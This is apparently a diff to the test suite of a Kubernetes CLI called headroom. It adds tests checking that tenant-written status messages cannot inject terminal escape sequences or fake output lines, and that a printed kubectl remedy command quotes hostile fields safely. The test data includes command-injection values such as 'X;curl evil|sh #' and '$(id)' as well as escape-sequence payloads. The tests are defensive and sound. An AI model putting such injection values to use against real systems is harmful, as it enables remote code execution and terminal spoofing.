@@ -227,6 +227,42 @@ def test_unknown_output_format_exits_with_2(kubeconfig: str, command: str) -> No
     assert headroom(kubeconfig, command, "-o", "yml").exit_code == 2
 
 
+@pytest.mark.parametrize(
+    "command",
+    [["get", "-o", "wide"], ["explain", "resnet50"], ["doctor"], ["explain", "\x1b[2Jnobody"]],
+)
+def test_terminal_obeys_nothing_that_a_tenant_wrote(
+    api: ApiServer, kubeconfig: str, command: list[str]
+) -> None:
+    """A pod's last words are in the message of a condition."""
+    forged = "bert   Healthy\u202e"
+    for one in (api.objects[f"{SERVICES}/resnet50"], api.objects[SERVICES]["items"][0]):
+        for said in (one["status"]["decision"], *one["status"]["conditions"]):
+            said["message"] = f"\x1b]0;owned\x07\x1b[1A\x9b2K\n{forged}"
+        one["status"]["decision"]["reason"] = "\x1b[31mBurst\n"
+    result = headroom(kubeconfig, *command)
+    shown = result.stdout + result.stderr
+    assert not {"\x1b", "\x07", "\x9b", "\u202e"}.intersection(shown)
+    assert r"\x1b" in shown
+    assert not any(line.startswith("bert   Healthy") for line in shown.splitlines())
+
+
+def test_remedy_to_copy_runs_nothing_else(api: ApiServer, kubeconfig: str) -> None:
+    owner = {"kind": "X;curl evil|sh #", "name": "$(id)", "uid": "u", "controller": True}
+    target = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "resnet50"}
+    metadata = {"name": "cpu", "namespace": "vision", "ownerReferences": [owner]}
+    scaler = {"metadata": metadata, "spec": {"scaleTargetRef": target}}
+    path = "/apis/autoscaling/v2/namespaces/vision/horizontalpodautoscalers"
+    api.objects[path] = {"items": [scaler]}
+    status = api.objects[SERVICES]["items"][0]["status"]
+    status["selector"] = "a in (b, c);curl evil"
+    broken = {"type": "CapacityAvailable", "status": "False", "reason": "ReplicasBroken"}
+    status["conditions"].append(broken | {"message": "1 of 3"})
+    said = headroom(kubeconfig, "doctor").stdout
+    assert "kubectl delete 'x;curl evil|sh #/$(id)' --namespace vision" in said
+    assert "--selector 'a in (b, c);curl evil'" in said
+
+
 def test_doctor_in_healthy_cluster_exits_with_0(api: ApiServer, kubeconfig: str) -> None:
     api.objects[SERVICES] = {"items": [NEW]}
     result = headroom(kubeconfig, "doctor")
